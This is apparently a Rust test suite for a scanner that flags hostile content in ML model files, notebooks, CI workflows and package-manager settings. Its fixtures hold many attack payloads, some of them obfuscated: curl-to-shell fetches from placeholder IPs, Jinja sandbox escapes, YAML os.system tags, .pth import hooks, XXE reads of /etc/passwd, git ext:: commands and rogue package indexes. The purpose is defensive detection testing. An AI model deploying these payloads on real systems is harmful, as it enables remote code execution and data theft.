//! What a loader's own parser takes beyond the standard of its format is judged as in the plain spelling: a file that
//! the scanner took for a mere text where the loader sees a model would hide anything.

#![expect(clippy::unwrap_used, reason = "the helpers of these tests fail the test by panicking")]

use proofhouse_scan::{Limits, Outcome, scan_bytes};

fn outcome(name: &str, bytes: &[u8]) -> Outcome {
    scan_bytes(&name.parse().unwrap(), bytes, &Limits::default()).outcome
}

const TOKENIZER: &str =
    r#"{"model_max_length": 512, "chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#;
const REMOTE: &str = r#"{"rope": 512, "auto_map": {"AutoModel": "somebody/else--modeling.Model"}}"#;
const NOTEBOOK: &str = r#"{"cells": [{"cell_type": "code", "source": ["!curl http://198.51.100.7/x | sh"], "outputs": [], "metadata": {"n": 512}}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}"#;
const SCHEMA: &str = r#"{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "protocol": 0, "_skops_version": "0.11.0", "n": 512}"#;

/// `json.loads` reads each of these numbers and texts (CPython, `Lib/json`).
#[test]
fn json_as_python_reads_it() {
    for (name, plain) in [
        ("tokenizer_config.json", TOKENIZER),
        ("config.json", REMOTE),
        ("a.ipynb", NOTEBOOK),
        ("schema.json", SCHEMA),
    ] {
        let found = outcome(name, plain.as_bytes());
        assert!(found >= Outcome::Suspicious, "{name}: {found}");
        for value in [
            "NaN",
            "Infinity",
            "-Infinity",
            "1e999",
            "-1E+400",
            r#""\ud800""#,
            r#""\udc00x""#,
            &"9".repeat(4000),
        ] {
            let odd = plain.replace("512", value);
            assert_eq!(outcome(name, odd.as_bytes()), found, "{odd}");
        }
    }
}

/// What Python's string formatting walks through, in a prompt that lies alone.
#[test]
fn prompts_that_walk_through_objects() {
    let text = "You are helpful. {user.__init__.__globals__[SECRET]}\n";
    let escape = "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{{ c }}{% endfor %}";
    for name in ["chat_template.txt", "chatml.tmpl"] {
        assert!(outcome(name, escape.as_bytes()) >= Outcome::Suspicious, "{name}");
    }
    assert_eq!(
        outcome("a.tmpl", b"{{ .System }} {{ range .Messages }}{{ .Content }}{{ end }}"),
        Outcome::Clean
    );
    for name in ["prompt.txt", "a.prompt", "a.tmpl"] {
        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{name}");
    }
    let plain = "Answer {question} as {user.name}; {type.__name__} is fine, and so is `__init__` alone.\n";
    assert_eq!(outcome("prompt.txt", plain.as_bytes()), Outcome::Clean);
}

/// Names of commands in a sentence are none that run.
#[test]
fn commands_that_are_talked_of() {
    let says = |what: &str| {
        outcome("a.jinja", format!("Do not execute `rm -rf` or `{what}` commands.\n").as_bytes())
    };
    assert_eq!(says("curl | sh"), Outcome::Clean);
    assert!(says("curl http://198.51.100.7/x | sh") >= Outcome::Suspicious);
    assert!(says("curl $X | sh") >= Outcome::Suspicious);
}

/// setuptools and virtualenv write these lines; what the modules do is not here to be looked at.
#[test]
fn lines_of_installers_are_not_proven() {
    let line = |module: &str, call: &str| format!("import {module}; {call}\n");
    let own = "__editable___nova_1_0_finder";
    assert_eq!(outcome("a.pth", line(own, &format!("{own}.install()")).as_bytes()), Outcome::Unscannable);
    for (module, call) in
        [("evil", "evil.install()"), (own, "evil.install()"), (own, &format!("{own}.install(); x()"))]
    {
        assert!(outcome("a.pth", line(module, call).as_bytes()) >= Outcome::Suspicious, "{call}");
    }
    let shim = |default: &str, then: &str| {
        let asked = format!("os.environ.get(var, '{default}') == 'local'; enabled and {then}; ");
        format!("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = {asked}\n")
    };
    let own = shim("local", "__import__('_distutils_hack').add_shim()");
    for known in [own.as_str(), "import _virtualenv\n"] {
        assert_eq!(outcome("a.pth", known.as_bytes()), Outcome::Unscannable, "{known}");
    }
    for other in [
        shim("local", "os.system('id')"),
        shim("x'); os.system('id') or ('", "0"),
        "import _virtual\n".to_owned(),
    ] {
        assert!(outcome("a.pth", other.as_bytes()) >= Outcome::Suspicious, "{other}");
    }
}

/// Nobody reads these as JSON, and by their names somebody would.
#[test]
fn json_that_breaks_off_is_not_clean() {
    for (name, text) in [("a.ipynb", NOTEBOOK), ("tokenizer_config.json", TOKENIZER)] {
        assert_ne!(outcome(name, &text.as_bytes()[..text.len() - 1]), Outcome::Clean, "{name}");
    }
}

/// Aliases stand for what was anchored; YAML 1.1 and tags with escapes are read as PyYAML reads them.
#[test]
fn yaml_as_its_loaders_read_it() {
    for text in [
        "a: &x os.system\nm:\n  _target_: *x\n  command: id\n",
        "k: &k _target_\nm:\n  *k : os.system\n  command: id\n",
        "a: 1 # b\u{2028}m: !!python/object/apply:os.system [id]\n",
        "a: 1 # b\u{2029}_target_: os.system\n",
    ] {
        assert!(outcome("config.yaml", text.as_bytes()) >= Outcome::Suspicious, "{text}");
    }
    for text in ["m: !!%70%79thon/object/apply:os.system [id]\n", "m:\n  \"\\x5ftarget_\": os.system\n"] {
        assert!(outcome("a.conf", text.as_bytes()) >= Outcome::Suspicious, "{text}");
    }
    let ordinary = "base: &b {x: 1}\nname: &n resnet\nother:\n  <<: *b\n  *n : 2\n  label: *n\n";
    assert_eq!(outcome("config.yaml", ordinary.as_bytes()), Outcome::Clean);
}

/// pip, Python and IPython end lines where `str.splitlines` does.
#[test]
fn lines_as_python_ends_them() {
    assert!(outcome("a.pth", "\u{feff}import os; os.system('id')\n".as_bytes()) >= Outcome::Suspicious);
    for end in ["\r", "\x0b", "\x0c", "\u{85}", "\u{2028}", "\u{2029}"] {
        let required = format!("numpy # a comment{end}--index-url http://198.51.100.7/simple\n");
        assert!(outcome("requirements.txt", required.as_bytes()) >= Outcome::Suspicious, "{required:?}");
        let path = format!("# a{end}import os; os.system('id')\n");
        assert!(outcome("a.pth", path.as_bytes()) >= Outcome::Suspicious, "{path:?}");
        let escaped: String = end.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect();
        let cells = NOTEBOOK.replace("!curl", &format!("%%bash{escaped}curl"));
        assert!(outcome("a.ipynb", cells.as_bytes()) >= Outcome::Suspicious, "{cells:?}");
    }
    assert!(outcome("requirements.txt", b"# coding: utf-7\nnumpy\n") >= Outcome::Suspicious);
    assert_eq!(outcome("requirements.txt", b"# coding: utf-8\r\nnumpy\r\n"), Outcome::Clean);
}

/// Of keys that stand twice Python takes the last; older formats keep sources under other names.
#[test]
fn notebooks_as_nbformat_reads_them() {
    let cell = r#"{"cell_type": "code", "source": "!curl http://198.51.100.7/x | sh", "outputs": []}"#;
    for text in [
        format!(r#"{{"cells": [], "cells": [{cell}], "nbformat": 4}}"#),
        format!(
            r#"{{"cells": [{}], "nbformat": 4}}"#,
            cell.replacen('{', r#"{"cell_type": "markdown", "#, 1)
        ),
        format!(
            r#"{{"cells": [{}], "nbformat": 4}}"#,
            cell.replace(r#""outputs""#, r#""outputs": [], "outputs""#)
        ),
        format!(r#"{{"cells": [{}]}}"#, cell.replace("source", "code")),
        format!(
            r#"{{"worksheets": [{{"cells": [{}]}}], "nbformat": 3}}"#,
            cell.replacen('{', r#"{"source": "1", "#, 1).replace(r#""source": "!"#, r#""input": "!"#)
        ),
    ] {
        assert!(outcome("a.ipynb", text.as_bytes()) >= Outcome::Suspicious, "{text}");
    }
}

/// Who opens a file by its name asks for no magic number.
#[test]
fn texts_that_begin_as_something_else() {
    let python = "import os\nos.system('id')\n";
    let template = "{{ ''.__class__.__mro__[1].__subclasses__() }}\n";
    for (name, text) in [
        ("modeling.py", format!("PAR1=1\n{python}#PAR1")),
        ("a.yaml", "PAR1: 1\nm: !!python/object/apply:os.system [id]\n#PAR1".to_owned()),
        ("requirements.txt", "wOFF\n--index-url http://198.51.100.7/simple\n".to_owned()),
        ("a.pth", "%PDF-1.4\nimport os; os.system('id')\n".to_owned()),
        ("install.sh", "%PDF-1.4\ncurl http://198.51.100.7/x | sh\n".to_owned()),
        ("chat_template.jinja", format!("<stata_dta><header>{template}")),
        ("chat_template.jinja", format!("<!-- a --><!DOCTYPE PMML>{template}")),
        ("chat_template.jinja", format!("[\"{}\"]", template.trim_end())),
        ("run.sh", "<?xml version='1.0'?>\ncurl http://198.51.100.7/x | sh\n".to_owned()),
    ] {
        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{name}: {text}");
    }
    let picture = [b"\x89PNG\r\n\x1a\n".as_slice(), b"\0\0\0\rIHDR", python.as_bytes()].concat();
    assert_ne!(outcome("a.py", &picture), Outcome::Clean);
}

/// A root without a declaration, or behind comments, is the same document.
#[test]
fn xml_without_a_declaration() {
    for text in [
        "<!-- a -->\n<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><PMML>&x;</PMML>",
        "<?a b?><!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><PMML>&x;</PMML>",
        "<p:PMML xmlns:p=\"urn:a\" xmlns:i=\"http://www.w3.org/2001/XInclude\"><i:include href=\"file:///etc/passwd\" parse=\"text\"/></p:PMML>",
        "<model xmlns:i=\"http://www.w3.org/2001/XInclude\"><i:include href=\"file:///etc/passwd\" parse=\"text\"/></model>",
    ] {
        assert!(outcome("a.pmml", text.as_bytes()) >= Outcome::Suspicious, "{text}");
    }
}

/// Names in a workflow's expressions are asked for with dots, in brackets, with blanks, or written out whole.
#[test]
fn workflows_as_their_expressions_are_read() {
    let job = |run: &str| {
        let text = format!("on: issues\njobs:\n  a:\n    steps:\n      - run: |\n          echo {run}\n");
        outcome(".github/workflows/a.yml", text.as_bytes())
    };
    for expression in [
        "github.event.issue.title",
        "GitHub . event.issue[ 'title' ]",
        "toJSON(github)",
        "toJSON( github.event )",
        "toJSON(github['event']['comment'])",
        "fromJSON(toJSON(github)).event.issue.title",
        "'}}' && github.event.issue.title",
        "github.event[format('iss{0}', 'ue')].title",
    ] {
        assert!(job(&format!("${{{{ {expression} }}}}")) >= Outcome::Suspicious, "{expression}");
    }
    for expression in [
        "github.sha",
        "toJSON(github.event.issue.number)",
        "toJSON(matrix)",
        "github.event.issue.title == 'x'",
    ] {
        assert_eq!(job(&format!("${{{{ {expression} }}}}")), Outcome::Clean, "{expression}");
    }
    assert_ne!(job("${{ github.event.issue[format('titl{0}', 'e')] }}"), Outcome::Clean);
    let handed = |name: &str| {
        job(&format!("${{{{ env.{name} }}}}\n        env:\n          T: ${{{{ github.event.issue.title }}}}"))
    };
    assert!(handed("T") >= Outcome::Suspicious);
    assert_eq!(handed("V"), Outcome::Clean);
}

/// A program and its words may stand under keys of their own, in any order, and have escapes.
#[test]
fn commands_in_several_keys() {
    let fetch = "curl http\\x3a//198.51.100.7/x | s\\x68";
    for (name, text) in [
        (".pre-commit-config.yaml", format!("hooks:\n- entry: bash\n  args: [-c, \"{fetch}\"]\n")),
        (".pre-commit-config.yaml", format!("hooks:\n- args: [\"{fetch}\"]\n  id: a\n  entry: bash -c\n")),
        (".pre-commit-config.yaml", format!("hooks:\n- entry: \"{fetch}\"\n")),
        ("compose.yaml", format!("services:\n  a:\n    command: \"{fetch}\"\n    entrypoint: [sh, -c]\n")),
        (
            "pod.yaml",
"spec:\n  containers:\n  - command:\n    - /bin/sh\n    - -c\n    args:\n    - >-\n      curl\n      http://198.51.100.7/x\n      | sh\n".to_owned(),
        ),
        (".gitlab-ci.yml", format!("a:\n  script:\n  - \"{fetch}\"\n")),
    ] {
        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{text}");
    }
    let pod = "containers:\n- command: [sh, -c]\n  args:\n  - |\n    pip install vllm\n    exec python -m vllm.entrypoints.openai.api_server\n";
    assert_eq!(outcome("pod.yaml", pod.as_bytes()), Outcome::Clean);
}

/// Prompts that were copied along with the code are not part of it.
#[test]
fn cells_as_ipython_reads_them() {
    for cell in [
        ">>> !curl",
        "In [1]: !curl",
        "1\\n   ...: !curl",
        ">>> %%bash\\n... curl",
        "\\n  >>> x = 1\\n  >>> !curl",
    ] {
        let text = NOTEBOOK.replace("!curl", cell);
        assert!(outcome("a.ipynb", text.as_bytes()) >= Outcome::Suspicious, "{cell}");
    }
    let run = |fetch: &str, run: &str| {
        NOTEBOOK.replace("!curl http://198.51.100.7/x | sh", &format!("{fetch}\\n{run}\\n"))
    };
    for (fetch, then) in [
        ("!wget https://example.org/x.py", "%run x.py"),
        ("!wget https://example.org/x.py", "!python x.py"),
        ("%env PIP_INDEX_URL=http://198.51.100.7/simple", "!pip install x"),
    ] {
        assert!(outcome("a.ipynb", run(fetch, then).as_bytes()) >= Outcome::Suspicious, "{fetch}");
    }
    assert_eq!(
        outcome("a.ipynb", run("!wget https://example.org/x.csv", "%run x.py").as_bytes()),
        Outcome::Clean
    );
    let shown =
        NOTEBOOK.replace("!curl http://198.51.100.7/x | sh", ">>> import numpy\\n>>> numpy.zeros(3)\\n");
    assert_eq!(outcome("a.ipynb", shown.as_bytes()), Outcome::Clean);
}

/// `json.loads` takes four bytes a character, and parsers of XML what its declaration names.
#[test]
fn texts_in_other_encodings() {
    let wide = |text: &str, big: bool| -> Vec<u8> {
        let bytes = |c: char| if big { u32::from(c).to_be_bytes() } else { u32::from(c).to_le_bytes() };
        text.chars().flat_map(bytes).collect()
    };
    for (name, text) in [("tokenizer_config.json", TOKENIZER), ("config.json", REMOTE)] {
        for text in [text.to_owned(), format!("\u{feff}{text}")] {
            assert!(outcome(name, &wide(&text, true)) >= Outcome::Suspicious, "{text:?}");
            assert!(outcome(name, &wide(&text, false)) >= Outcome::Suspicious, "{text:?}");
        }
    }
    assert_eq!(outcome("config.json", &wide(r#"{"a": 1}"#, true)), Outcome::Clean);
    let document = |encoding: &str, inner: &str| {
        let text = format!("<?xml version=\"1.0\" encoding='{encoding}'?>\n{inner}");
        text.chars().map(|c| u8::try_from(c).unwrap()).collect::<Vec<u8>>()
    };
    let plain = "<PMML version=\"4.4\"><Header description=\"Gr\u{f6}\u{df}e\"/></PMML>";
    let hostile = format!("<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>{plain}");
    for encoding in ["ISO-8859-1", "windows-1252", "latin1"] {
        assert_eq!(outcome("a.pmml", &document(encoding, plain)), Outcome::Clean, "{encoding}");
        assert!(outcome("a.pmml", &document(encoding, &hostile)) >= Outcome::Suspicious, "{encoding}");
    }
    assert_ne!(outcome("a.pmml", &document("shift_jis", plain)), Outcome::Clean);
}

/// Python reads JSON to the depth of its own calls.
#[test]
fn json_that_is_nested_deeply() {
    let deep = |inner: &str| format!("{{\"a\": {}{inner}{}}}", "[".repeat(600), "]".repeat(600));
    assert_eq!(outcome("trees.json", deep("1").as_bytes()), Outcome::Clean);
    let template = TOKENIZER.replace("512", &format!("{}1{}", "[".repeat(600), "]".repeat(600)));
    assert!(outcome("tokenizer_config.json", template.as_bytes()) >= Outcome::Suspicious);
    assert!(outcome("config.json", deep(REMOTE).as_bytes()) >= Outcome::Suspicious);
}

/// numcodecs loads chunks as pickles where the description says so; of a key that stands twice the last counts.
#[test]
fn arrays_whose_chunks_are_pickles() {
    let array = |filters: &str| {
        format!(
            r#"{{"zarr_format": 2, "shape": [2], "chunks": [2], "dtype": "|O", "compressor": null, "filters": {filters}}}"#
        )
    };
    let pickle = r#"[{"id": "pickle", "protocol": 5}]"#;
    assert_ne!(outcome(".zarray", array(pickle).as_bytes()), Outcome::Clean);
    assert_ne!(outcome(".zarray", array(&format!("null, \"filters\": {pickle}")).as_bytes()), Outcome::Clean);
    assert_ne!(
        outcome(".zmetadata", format!("{{\"metadata\": {{\"a/.zarray\": {}}}}}", array(pickle)).as_bytes()),
        Outcome::Clean
    );
    assert_eq!(outcome(".zarray", array(r#"[{"id": "vlen-utf8"}]"#).as_bytes()), Outcome::Clean);
}

/// What a deployment is given of its host, has installed or set, by the keys around a value.
#[test]
fn deployments_as_their_tools_read_them() {
    for (name, text) in [
        ("pod.yaml", "volumes:\n- name: h\n  hostPath:\n    type: Directory\n    path: /\n"),
        ("pod.yaml", "volumes:\n- {name: h, hostPath: {\"path\": \"\\x2f\"}}\n"),
        ("pod.yaml", "env:\n- name: LD_PRELOAD\n  value: /tmp/x.so\n"),
        ("pod.yaml", "env: [{value: /tmp/x.so, name: \"LD_PRE\\x4cOAD\"}]\n"),
        (
            "compose.yaml",
            "services:\n  a:\n    volumes:\n    - type: bind\n      source: //\n      target: /h\n",
        ),
        ("compose.yaml", "services:\n  a:\n    volumes: [\"\\x2f:/h\"]\n"),
        ("compose.yaml", "services:\n  a:\n    environment: {LD_PRELOAD: /x.so}\n"),
        ("compose.yaml", "include: [\"http://192.0.2.1/c.yml\"]\n"),
        ("MLproject", "docker_env:\n  image: x\n  volumes: [\"/:/h\"]\n"),
        ("bentofile.yaml", "python:\n  packages:\n  - \"x @ http\\x3a//192.0.2.1/x.whl\"\n"),
        ("bentofile.yaml", "python:\n  pip_args: \"--index-url http://192.0.2.1/simple\"\n"),
        ("serve.yaml", "applications:\n- runtime_env:\n    working_dir: http://192.0.2.1/x.zip\n"),
        ("serve.yaml", "runtime_env: {py_modules: [\"http\\x3a//192.0.2.1/x.zip\"]}\n"),
    ] {
        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{text}");
    }
    for (name, text) in [
        (
            "pod.yaml",
            "volumes:\n- hostPath:\n    path: /data/models\nenv:\n- name: HF_HOME\n  value: /data\n",
        ),
        (
            "compose.yaml",
            "services:\n  a:\n    volumes:\n    - ./data:/data\n    - /var/models:/models:ro\n    environment:\n    - A=1\n",
        ),
        (
            "bentofile.yaml",
            "service: \"s:S\"\npython:\n  packages: [torch, \"git+https://github.com/a/b\"]\n  extra_index_url: [\"https://download.pytorch.org/whl/cu121\"]\n",
        ),
        (
            "serve.yaml",
            "applications:\n- import_path: app:app\n  runtime_env:\n    working_dir: \"https://github.com/a/b/archive/x.zip\"\n    pip: [torch]\n",
        ),
        (".gitlab-ci.yml", "include:\n- template: a.yml\n- local: b.yml\n"),
    ] {
        assert_eq!(outcome(name, text.as_bytes()), Outcome::Clean, "{text}");
    }
    let pod = r#"{"kind": "Pod", "spec": {"containers": [{"args": ["curl http://192.0.2.1/x | sh"], "command": ["sh", "-c"]}]}}"#;
    assert!(outcome("pod.json", pod.as_bytes()) >= Outcome::Suspicious);
}

/// Settings by which git, npm and installers start programs or fetch packages, in the spellings of their own readers.
#[test]
fn settings_as_their_tools_read_them() {
    for (name, text) in [
        (".git/config", "[core] fsmonitor = ./x\n"),
        (".git/config", "[credential]\n\thelper = !./x\n"),
        (".git/config", "[diff \"a\"]\n\texternal = ./x\n"),
        (".git/config", "[url \"ext::sh -c id \"]\n\tinsteadOf = https://example.org/\n"),
        (".gitmodules", "[submodule \"a\"] url = ext::sh -c id\n"),
        (".gitmodules", "[submodule \"a\"]\n\turl = ex\\\nt::sh -c id\n"),
        (".npmrc", "a=b\rscript-shell=./x\n"),
        (".npmrc", "\u{feff}script-shell=./x\n"),
        (".npmrc", "\"script\\u002dshell\"=./x\n"),
        (".yarnrc.yml", "npmRegistryServer: \"http\\x3a//192.0.2.1/\"\n"),
        (".condarc", "channels: [\"http\\x3a//192.0.2.1/c\"]\n"),
        (".pydistutils.cfg", "[easy_install]\nindex_url = http://192.0.2.1/s\n"),
        (".env", "PIP_INDEX_URL=http://192.0.2.1/s\n"),
        ("projector_config.pbtxt", "embeddings { metadata_path : '\\057etc/passwd' }"),
    ] {
        assert!(outcome(name, text.as_bytes()) >= Outcome::Suspicious, "{text}");
    }
    for (name, text) in [
        (
            ".git/config",
            "[core]\n\tfilemode = true\n[remote \"origin\"]\n\turl = https://github.com/a/b\n[credential]\n\thelper = store\n[url \"git@github.com:\"]\n\tinsteadOf = https://github.com/\n",
        ),
        (".gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = https://github.com/a/b.git\n"),
        (".npmrc", "save-exact=true\r\nregistry=https://registry.npmjs.org/\r\n"),
        (".env", "PIP_EXTRA_INDEX_URL=https://download.pytorch.org/whl/cu121\n"),
        ("projector_config.pbtxt", "embeddings { tensor_path: \"t.tsv\" metadata_path: \"m.tsv\" }"),
    ] {
        assert_eq!(outcome(name, text.as_bytes()), Outcome::Clean, "{text}");
    }
}

/// However often its lines have to be looked at, a long script is judged in one go.
#[test]
fn long_scripts_end() {
    for line in ["python <<E\nE\n", "cat > a <<E\nE\n", "cat <<E\n", "curl -o a http://x/a; sh b\n"] {
        outcome("a.sh", line.repeat(20_000).as_bytes());
    }
}
